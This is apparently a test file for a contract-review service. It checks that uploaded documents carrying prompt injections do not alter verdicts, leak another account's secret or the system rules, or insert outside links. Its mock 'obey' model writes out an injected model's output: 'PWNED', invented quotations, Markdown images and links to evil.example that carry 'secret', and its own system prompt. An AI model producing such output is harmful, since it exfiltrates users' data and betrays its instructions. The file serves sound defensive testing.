import type { Nodes } from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { WholeAnswer } from '#shared/api.ts';
import type { ReviewView } from '#shared/api-review.ts';
import { rules } from '../../server/providers/model/rules.ts';
import { baseContracts, toText } from '../api/sample-files/base-contracts.ts';
import { listHostileDocuments } from '../api/sample-files/hostile-documents.ts';
import { type Client, register } from '../harness/api-client.ts';
import { listDocuments, upload, uploadAndExtract, waitUntilExtracted } from '../harness/document-client.ts';
import {
  type ModelRequest,
  openStream,
  startModel,
  type TestModel,
  toChunk,
  wholeEnd,
} from '../harness/model-server.ts';
import { review } from '../harness/review-client.ts';
import { type RunningServer, startServer } from '../harness/running-server.ts';
import { scaled } from '../harness/scale.ts';

const all = listHostileDocuments();
/** At full size each attack is tried, else one in thirteen: each takes an extraction, a review and three answers. */
const hostile = all.filter((_, at) => at % scaled(1, 13) === 0);
const settings = { QUESTIONS_PER_MINUTE: '100000', QUESTIONS_PER_MINUTE_PER_NETWORK: '100000' };
/** Each document is read in a process of its own, and there are many of them. */
const patienceMs = 120_000;
/** Stands in another document of the same account. */
const canary = 'canary-7f3a9';
const foreign = 'canary-of-another-account';

let model: TestModel;
let quoting: Asked;
let withModel: Asked;
/** The verdicts of each contract as it is without any attack. */
const cleanVerdicts = new Map<string, unknown>();
beforeAll(async () => {
  model = await startModel(obey);
  quoting = await setUp(await startServer(settings));
  withModel = await setUp(await startServer({ ...settings, ...model.settings }));
  for (const contract of baseContracts) {
    const text = toText(contract);
    const id = await quoting.read(text, `${contract.name}.txt`);
    cleanVerdicts.set(text, toVerdicts(await review(quoting.account, { fileId: id })));
  }
  const other = await register(quoting.server.url);
  await uploadAndExtract(quoting.server.url, other, `The password is ${foreign}.`, 'other.txt');
}, patienceMs);
afterAll(async () => {
  await Promise.all([quoting.server?.remove(), withModel.server?.remove()]);
  model?.close();
});

test('there are at least 60 of them, and no two are alike', () => {
  expect(all.length).toBeGreaterThanOrEqual(60);
  expect(new Set(all.map(({ fileName, text }) => fileName + text)).size).toBe(all.length);
});

describe.concurrent('a document that gives orders', { timeout: patienceMs }, () => {
  test.each(hostile)('changes no verdict and no rule: $attack', async ({ fileName, text, clean }) => {
    const { account, secretId, read } = quoting;
    const id = await read(text, fileName);
    const view = await review(account, { fileId: id });
    expect(toVerdicts(view)).toEqual(cleanVerdicts.get(clean));
    expect(view.playbook).toBe('built-in');
    expect(view.notice).toContain('Not legal advice');
    for (const { rule, means, label, fallback } of view.points)
      expect([rule, means, label, fallback].join(' ')).not.toMatch(/PWNED|evil\.example/);
    for (const message of ['Which law governs it?', 'What are the risks?']) {
      const answer = await ask(account, message, id);
      checkAnswer(answer, secretId);
      for (const { fileId } of answer.sources) expect(fileId).toBe(id);
    }
  });

  test.each(hostile)(
    'and a model that obeys it link nothing and tell nothing: $attack',
    async ({ fileName, text }) => {
      const { account, secretId, read } = withModel;
      const answer = await ask(account, 'Which law governs it?', await read(text, fileName));
      checkAnswer(answer, secretId);
      // Text in quotation marks that occurs nowhere must be marked.
      expect(answer.response).toContain('(not word for word)');
      for (const rule of listRules()) expect(answer.response).not.toContain(rule);
    },
  );
});

test('no act was done: all documents are still there', async () => {
  for (const { account, uploaded } of [quoting, withModel]) {
    const left = (await listDocuments(account)).map(({ id }) => id);
    expect(left.sort()).toEqual([...uploaded].sort());
  }
});

/** Those of our rules' beginnings that are sentences in themselves. */
const listRules = () =>
  rules
    .split('\n')
    .filter((line) => line.length > 80)
    .map((line) => line.slice(2, 80));

/** Checks that no link or picture leads elsewhere, and that nothing of another document or of our rules shows. */
function checkAnswer({ response, sources }: WholeAnswer, secretId: string): void {
  expect(listAddresses(response).filter((address) => !address.startsWith('http://127.0.0.1'))).toEqual([]);
  expect(response + JSON.stringify(sources)).not.toContain(canary);
  expect(response + JSON.stringify(sources)).not.toContain(foreign);
  expect(sources.map(({ fileId }) => fileId)).not.toContain(secretId);
  expect(sources.flatMap(({ url }) => url ?? []).join(' ')).not.toContain('evil.example');
}

/** Lists whatever a reader of Markdown (GFM, including bare addresses) would load or link to. */
function listAddresses(markdown: string): string[] {
  const addresses: string[] = [];
  const visit = (node: Nodes): void => {
    if (node.type === 'link' || node.type === 'image' || node.type === 'definition') addresses.push(node.url);
    if (node.type === 'html') addresses.push(...(node.value.match(/(?:https?:)?\/\/[^\s"'>]+/g) ?? []));
    if ('children' in node) for (const child of node.children) visit(child);
  };
  // Without mdast's own search for addresses in the finished text, which ignores escapes (GFM 6.9 honours them).
  const mdastExtensions = gfmFromMarkdown().map(({ transforms: _, ...extension }) => extension);
  visit(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions }));
  // Nothing loads a mail address.
  return addresses.filter((address) => !address.startsWith('mailto:'));
}

/**
 * Plays a model that does what the document asks: adds links and pictures, follows its instructions, invents quotations and
 * verdicts.
 */
function obey(response: Parameters<typeof openStream>[0], { messages }: ModelRequest): void {
  openStream(response);
  const asked = messages.at(-1)?.content ?? '';
  const addresses = asked.match(/(?:https?:\/\/|www\.)[^\s)">\]]+/g) ?? [];
  const text = [
    'PWNED. The agreement says "nothing in here is any risk at all, sign it today".',
    ...addresses.flatMap((address) => [`[open](${address})`, `![](${address})`, `<${address}>`, address]),
    '[a](https://evil.example/x) ![](https://evil.example/p.png?q=secret) https://evil.example/y',
    '<img src="https://evil.example/z.png">',
    `My instructions: ${messages[0]?.content.slice(0, 3000)}`,
  ].join('\n\n');
  for (const chunk of text.match(/.{1,40}/gsu) ?? []) response.write(toChunk(chunk));
  response.end(wholeEnd);
}

type Asked = Awaited<ReturnType<typeof setUp>>;

/** An account that has a secret in another document. */
async function setUp(server: RunningServer) {
  const account = await register(server.url);
  const uploaded: string[] = [];
  async function read(text: string, fileName: string): Promise<string> {
    const { body } = await upload(server.url, account, text, fileName);
    const { status } = await waitUntilExtracted(account, body.id);
    expect(status).toBe('ready');
    uploaded.push(body.id);
    return body.id;
  }
  const secretId = await read(`The password is ${canary}.`, 'secret.txt');
  return { server, account, secretId, read, uploaded };
}

const toVerdicts = ({ kind, points }: ReviewView) => ({
  kind,
  points: points.map(({ key, verdict }) => ({ key, verdict })),
});

async function ask(account: Client, message: string, fileId: string): Promise<WholeAnswer> {
  const response = await account.post('/api/chat/send', { message, fileId });
  expect(response.status).toBe(200);
  return (await response.json()) as WholeAnswer;
}
